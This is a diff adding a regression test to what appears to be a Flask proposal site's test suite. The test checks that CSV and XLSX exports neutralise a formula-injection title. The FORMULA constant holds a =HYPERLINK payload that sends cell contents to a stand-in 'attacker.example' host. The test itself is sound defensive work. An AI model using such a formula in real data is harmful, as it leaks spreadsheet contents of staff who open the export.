@@ -19,6 +19,7 @@ it for a longer hunt.
 from __future__ import annotations
 
 import copy
+import csv
 import hashlib
 import io
 import json
@@ -37,7 +38,7 @@ from flask import Flask
 from flask.testing import FlaskClient
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from PIL import Image
 from sqlalchemy import select
 from werkzeug.test import TestResponse
@@ -706,3 +707,31 @@ def test_fuzz_tracking_forms(fuzzed: Fuzzed, fields: dict[str, str], action: str
     before = snapshot(fuzzed.site)
     response = client.post(path, data=form, content_type="multipart/form-data")
     refused_cleanly(fuzzed, client, response, before, accepted=without_error)
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&B3,"x")'
+
+
+def test_formula_injection_a_proposal_title_reaches_the_exports_as_text(
+        fuzzed: Fuzzed) -> None:
+    """The attack of issue 13: a public proposal whose title is a formula, then the
+    reviewer's CSV and XLSX exports of the proposals."""
+    client = fresh(fuzzed)
+    response = client.post(f"/propose/{CONFIG.election_id}", data={
+        "csrf_token": csrf(client), "title": FORMULA, "category": "城乡建设",
+        "description": "x", "place": "y", "proposer_name": "@me", "cost": "3"},
+        content_type="multipart/form-data")
+    assert response.status_code == 302
+    staff_client = fresh(fuzzed, staff_member=True)
+    exported = staff_client.get(f"/admin/e/{CONFIG.election_id}/proposals/export.csv")
+    assert exported.status_code == 200
+    table = list(csv.reader(io.StringIO(exported.get_data().decode("utf-8-sig"))))
+    rows = [row for row in table if FORMULA in "".join(row)]
+    assert rows
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
+    assert "'" + FORMULA in rows[0]
+    workbook = staff_client.get(f"/admin/e/{CONFIG.election_id}/proposals/export.xlsx")
+    sheet = load_workbook(io.BytesIO(workbook.get_data())).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert FORMULA in [cell.value for cell in cells]
